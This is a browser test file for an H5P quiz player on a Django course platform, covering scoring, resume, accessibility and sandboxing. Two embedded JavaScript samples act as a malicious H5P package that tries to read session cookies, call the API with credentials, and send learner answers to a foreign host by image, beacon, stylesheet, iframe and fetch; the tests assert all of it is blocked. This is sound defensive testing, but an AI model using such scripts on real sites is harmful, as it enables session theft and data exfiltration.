"""In a real browser: the quiz plays, its score arrives, state resumes, and package script stays caged.

Uses the browser harness of tests/browser/conftest.py (headless Debian Chromium).
"""

import io
import json
import time

import pytest

from courses.h5p.builder import H5PPackageBuilder
from courses.h5p.models import H5PResult, H5PStatement, H5PUserState
from courses.h5p.services import h5p_content_import
from tests.browser.conftest import login_as
from tests.factories.pages import h5p_activity_page

pytestmark = [
    pytest.mark.browser,
    # The live server needs committed data; serialized_rollback restores what migrations
    # created (home page, site, locale) for the tests that run afterwards.
    pytest.mark.django_db(transaction=True, serialized_rollback=True),
]

EVIL_JS = r"""
var H5P = H5P || {};
H5P.Evil = function () {};
H5P.Evil.prototype.attach = function ($container) {
  var report = {};
  function attempt(name, fn) {
    try { report[name] = {ok: true, value: String(fn())}; }
    catch (e) { report[name] = {ok: false, error: String(e && e.name)}; }
  }
  attempt('cookie', function () { return document.cookie; });
  attempt('topCookie', function () { return window.top.document.cookie; });
  attempt('parentCookie', function () { return window.parent.document.cookie; });
  attempt('localStorage', function () { return window.localStorage.length; });
  var el = document.createElement('pre');
  el.id = 'evil-report';
  $container.get(0).appendChild(el);
  function show() { el.textContent = JSON.stringify(report); }
  show();
  var body = JSON.stringify({page: 1, content: 1, statement: {verb: {id: 'x'}, object: {id: 'y'}}});
  Promise.all([
    fetch('/api/v1/h5p/xapi/', {method: 'POST', credentials: 'include',
      headers: {'Content-Type': 'application/json'}, body: body})
      .then(function (r) { report.apiPost = {ok: true, value: String(r.status)}; },
            function (e) { report.apiPost = {ok: false, error: String(e && e.name)}; }),
    fetch('/api/v1/schema/', {credentials: 'include'})
      .then(function (r) {
        return r.text().then(function (t) { report.apiGet = {ok: true, value: r.status + ':' + t.length}; });
      },
            function (e) { report.apiGet = {ok: false, error: String(e && e.name)}; })
  ]).then(function () { report.done = true; show(); });
};
"""


EXFIL_JS = r"""
var H5P = H5P || {};
H5P.Evil = function () {};
H5P.Evil.prototype.attach = function ($container) {
  var sink = 'http://127.0.0.1:__PORT__/';
  var report = {violations: []};
  document.addEventListener('securitypolicyviolation', function (e) { report.violations.push(e.effectiveDirective); });
  var el = document.createElement('pre');
  el.id = 'evil-report';
  $container.get(0).appendChild(el);
  function show() { el.textContent = JSON.stringify(report); }
  function attempt(name, fn) { try { fn(); report[name] = 'sent'; } catch (e) { report[name] = String(e && e.name); } }
  attempt('image', function () { new Image().src = sink + 'image?answer=geheim'; });
  attempt('beacon', function () { navigator.sendBeacon(sink + 'beacon', 'answer=geheim'); });
  attempt('style', function () {
    var link = document.createElement('link'); link.rel = 'stylesheet'; link.href = sink + 'style';
    document.head.appendChild(link);
  });
  attempt('frame', function () {
    var f = document.createElement('iframe'); f.src = sink + 'frame'; document.body.appendChild(f);
  });
  Promise.all([
    fetch(sink + 'fetch?answer=geheim', {method: 'POST', body: 'geheim', mode: 'no-cors'})
      .then(function () { report.fetch = 'sent'; }, function (e) { report.fetch = String(e && e.name); }),
    fetch(location.protocol + '//' + location.host + '/h5p/dateien/libraries/H5P.Evil-1.0/library.json')
      .then(function (r) { report.own = String(r.status); }, function (e) { report.own = String(e && e.name); })
  ]).then(function () { setTimeout(function () { report.done = true; show(); }, 500); });
};
"""


def evil_package(script: str = EVIL_JS) -> bytes:
    return (
        H5PPackageBuilder()
        .h5p_json(
            {
                "title": "Harmlos aussehend",
                "language": "de",
                "mainLibrary": "H5P.Evil",
                "embedTypes": ["iframe"],
                "preloadedDependencies": [{"machineName": "H5P.Evil", "majorVersion": 1, "minorVersion": 0}],
            }
        )
        .content_json({})
        .add_json(
            "H5P.Evil-1.0/library.json",
            {
                "title": "Evil",
                "machineName": "H5P.Evil",
                "majorVersion": 1,
                "minorVersion": 0,
                "patchVersion": 0,
                "runnable": 1,
                "preloadedJs": [{"path": "evil.js"}],
            },
        )
        .add_file("H5P.Evil-1.0/evil.js", script)
        .build()
    )


def login(browser, live_server, user):
    login_as(browser, live_server.url, user)


def wait_for(predicate, timeout=20.0, message="timeout"):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = predicate()
        if value:
            return value
        time.sleep(0.2)
    raise AssertionError(message)


def enter_h5p(browser):
    """Switch into our sandboxed player frame (H5P renders there as a div)."""
    from selenium.webdriver.common.by import By

    browser.switch_to.default_content()
    outer = wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "[data-h5p-embed] iframe"))[0]
    wait_for(lambda: outer.get_attribute("src"), message="iframe src not set")
    browser.switch_to.frame(outer)


def test_learner_plays_quiz_score_is_recorded_and_state_resumes(browser, live_server, org_tree, make_member):
    from selenium.webdriver.common.by import By

    learner = make_member(org_tree["garching"])
    page = h5p_activity_page(passing_threshold=50)
    login(browser, live_server, learner)
    browser.get(live_server.url + page.url)

    enter_h5p(browser)
    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, ".lp-quiz input[type=radio]"), message="quiz not shown")
    # Keyboard-usable native controls: pick the first answer of question 1 and the second of question 2.
    browser.find_element(By.CSS_SELECTOR, "label[for$='-0-0']").click()
    browser.find_element(By.CSS_SELECTOR, "label[for$='-1-1']").click()
    browser.find_element(By.CSS_SELECTOR, ".lp-quiz-check").click()
    wait_for(
        lambda: (
            "2 von 2 Punkten" in browser.find_element(By.CSS_SELECTOR, ".lp-quiz-result").get_attribute("textContent")
        ),
        message="no score shown: " + browser.find_element(By.CSS_SELECTOR, ".lp-quiz").get_attribute("outerHTML"),
    )

    result = wait_for(lambda: H5PResult.objects.filter(user=learner, page=page).first(), message="no result")
    assert (result.score, result.max_score, result.passed) == (2, 2, True)
    wait_for(
        lambda: H5PStatement.objects.filter(user=learner, is_sub_statement=True).count() == 2,
        message=str(list(H5PStatement.objects.values_list("verb", "object_id"))),
    )
    wait_for(lambda: H5PUserState.objects.filter(user=learner, page=page).exists(), message="no state saved")

    browser.switch_to.default_content()
    browser.get(live_server.url + page.url)
    enter_h5p(browser)
    resumed = wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, ".lp-quiz-result"), message="no resume")
    wait_for(lambda: "2 von 2" in resumed[0].text, message="state not restored")


def test_package_script_cannot_read_session_cookie_or_use_the_api(browser, live_server, org_tree, make_member):
    from selenium.webdriver.common.by import By

    learner = make_member(org_tree["garching"])
    evil = h5p_content_import(file=io.BytesIO(evil_package()), filename="evil.h5p")
    page = h5p_activity_page(content=evil)
    login(browser, live_server, learner)
    browser.get(live_server.url + page.url)
    assert browser.get_cookie("csrftoken"), "the parent page has a readable CSRF cookie to protect"

    enter_h5p(browser)
    report_el = wait_for(lambda: browser.find_elements(By.ID, "evil-report"), message="evil script did not run")[0]
    report = json.loads(wait_for(lambda: '"done":true' in report_el.text and report_el.text, message="no report"))

    assert report["cookie"]["ok"] is False and report["cookie"]["error"] == "SecurityError"
    assert report["topCookie"]["ok"] is False and report["parentCookie"]["ok"] is False
    # Real storage is out of reach; the player's empty in-memory stand-in is all it sees.
    assert report["localStorage"] == {"ok": True, "value": "0"}
    # A cross-origin request from the opaque origin: either the browser blocks reading it,
    # or the server refuses it - never a stored statement.
    assert report["apiPost"]["ok"] is False or report["apiPost"]["value"] in {"401", "403"}
    assert report["apiGet"]["ok"] is False
    assert not H5PStatement.objects.exists()


def test_h5p_activity_page_has_no_wcag_violations(browser, axe, live_server, org_tree, make_member):
    learner = make_member(org_tree["garching"])
    page = h5p_activity_page()
    login(browser, live_server, learner)

    for width in (1280, 375):
        browser.set_window_size(width, 900)
        axe(live_server.url + page.url)
    browser.set_window_size(1280, 900)


SINK_PORT = 8121  # this helper's port block (COORDINATION.md)


@pytest.fixture
def sink():
    """A foreign host on 127.0.0.1 that records every request the package manages to send."""
    import http.server
    import threading

    hits: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def _record(self):
            hits.append(f"{self.command} {self.path}")
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_GET = do_POST = do_OPTIONS = _record

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", SINK_PORT), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield hits
    server.shutdown()
    server.server_close()


def test_package_script_cannot_send_answers_to_another_host(browser, live_server, org_tree, make_member, sink):
    from selenium.webdriver.common.by import By

    learner = make_member(org_tree["garching"])
    script = EXFIL_JS.replace("__PORT__", str(SINK_PORT))
    evil = h5p_content_import(file=io.BytesIO(evil_package(script)), filename="evil.h5p")
    page = h5p_activity_page(content=evil)
    login(browser, live_server, learner)
    browser.get(live_server.url + page.url)

    enter_h5p(browser)
    report_el = wait_for(lambda: browser.find_elements(By.ID, "evil-report"), message="evil script did not run")[0]
    report = json.loads(wait_for(lambda: '"done":true' in report_el.text and report_el.text, message="no report"))
    time.sleep(1.0)  # anything in flight would have arrived by now
    browser.switch_to.default_content()

    assert sink == [], f"the package reached another host: {sink}"
    assert report["fetch"] == "TypeError"  # refused by connect-src
    assert report["own"] == "200"  # the content origin still answers (the player needs it)
    assert {"img-src", "connect-src", "style-src-elem", "frame-src"} <= set(report["violations"]), report


def test_player_frame_fits_its_content_stays_stable_and_has_one_fullscreen_button(
    browser, live_server, org_tree, make_member
):
    """The frame reports its content's height; it must not creep up (it once grew ~2 px a second).

    The quiz library declares ``fullscreen: 1``, so H5P would add its own English "Fullscreen"
    button next to our "Vollbild"; only ours is shown. The frame uses the platform's font.
    """
    from selenium.webdriver.common.by import By

    learner = make_member(org_tree["garching"])
    page = h5p_activity_page()
    login(browser, live_server, learner)
    browser.get(live_server.url + page.url)
    enter_h5p(browser)
    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, ".lp-quiz input[type=radio]"), message="quiz not shown")
    content_height = browser.execute_script(
        "return Math.ceil(document.getElementById('h5p-container').getBoundingClientRect().height)"
    )
    h5p_fullscreen = browser.find_elements(By.CSS_SELECTOR, ".h5p-enable-fullscreen, .h5p-fullscreen")
    assert not [el for el in h5p_fullscreen if el.is_displayed()], "H5P's own fullscreen button is shown"
    fonts = browser.execute_script(
        "return [document.body, document.querySelector('.h5p-content')].filter(Boolean)"
        ".map(function (el) { return getComputedStyle(el).fontFamily; })"
    )
    assert len(fonts) == 2 and all(font.startswith("system-ui") for font in fonts), fonts
    browser.switch_to.default_content()
    buttons = [b.text for b in browser.find_elements(By.CSS_SELECTOR, "[data-h5p-embed] button") if b.is_displayed()]
    assert buttons == ["Vollbild"], buttons
    frame = browser.find_element(By.CSS_SELECTOR, "[data-h5p-embed] iframe")

    def inner_height():
        return browser.execute_script("return arguments[0].clientHeight", frame)

    wait_for(lambda: abs(inner_height() - content_height) <= 1, message=f"{inner_height()} != {content_height}")
    samples = []
    for _ in range(7):
        samples.append(inner_height())
        time.sleep(5)
    assert len(set(samples)) == 1, f"the frame's height changed over 30 s: {samples}"
    assert abs(samples[0] - content_height) <= 1, (samples[0], content_height)


# A content type that draws a package image on a canvas and reads a pixel back, as H5P.Agamotto
# and other image content types do. In the sandbox (opaque origin) every H5P file is cross-origin:
# without CORS mode the canvas is tainted and getImageData throws a SecurityError.
CANVAS_JS = r"""
var H5P = H5P || {};
H5P.CanvasProbe = function (params, contentId) { this.params = params; this.contentId = contentId; };
H5P.CanvasProbe.prototype.attach = function ($container) {
  var report = document.createElement('pre');
  report.id = 'canvas-report';
  var img = document.createElement('img');
  img.alt = 'Prüfbild';
  img.onload = function () {
    var canvas = document.createElement('canvas');
    canvas.width = img.naturalWidth;
    canvas.height = img.naturalHeight;
    var context = canvas.getContext('2d');
    context.drawImage(img, 0, 0);
    try {
      var d = context.getImageData(1, 1, 1, 1).data;
      report.textContent = 'rgb(' + d[0] + ',' + d[1] + ',' + d[2] + ') crossOrigin=' + img.crossOrigin;
    }
    catch (e) { report.textContent = 'error:' + e.name + ' crossOrigin=' + img.crossOrigin; }
  };
  img.onerror = function () { report.textContent = 'error:load'; };
  H5P.setSource(img, this.params.image, this.contentId);
  $container.get(0).appendChild(img);
  $container.get(0).appendChild(report);
};
"""


def _png(colour: tuple[int, int, int]) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), colour).save(buffer, format="PNG")
    return buffer.getvalue()


def canvas_package() -> bytes:
    return (
        H5PPackageBuilder()
        .h5p_json(
            {
                "title": "Bildvergleich",
                "language": "de",
                "mainLibrary": "H5P.CanvasProbe",
                "embedTypes": ["div"],
                "preloadedDependencies": [{"machineName": "H5P.CanvasProbe", "majorVersion": 1, "minorVersion": 0}],
            }
        )
        .content_json({"image": {"path": "images/probe-1.png", "mime": "image/png", "width": 4, "height": 4}})
        .add_file("content/images/probe-1.png", _png((200, 30, 60)))
        .add_json(
            "H5P.CanvasProbe-1.0/library.json",
            {
                "title": "Canvas probe",
                "machineName": "H5P.CanvasProbe",
                "majorVersion": 1,
                "minorVersion": 0,
                "patchVersion": 0,
                "runnable": 1,
                "preloadedJs": [{"path": "probe.js"}],
            },
        )
        .add_file("H5P.CanvasProbe-1.0/probe.js", CANVAS_JS)
        .build()
    )


def test_content_can_read_back_the_pixels_of_its_own_images(browser, live_server, org_tree, make_member):
    """Images load in CORS mode (H5PIntegration.crossorigin), so a canvas that draws them is not tainted."""
    from selenium.webdriver.common.by import By

    learner = make_member(org_tree["garching"])
    content = h5p_content_import(file=io.BytesIO(canvas_package()), filename="bildvergleich.h5p")
    page = h5p_activity_page(content=content)
    login(browser, live_server, learner)
    browser.get(live_server.url + page.url)

    enter_h5p(browser)
    report = wait_for(lambda: browser.find_elements(By.ID, "canvas-report"), message="probe did not run")[0]
    text = wait_for(lambda: report.text, message="no pixel read")
    assert text == "rgb(200,30,60) crossOrigin=anonymous", text
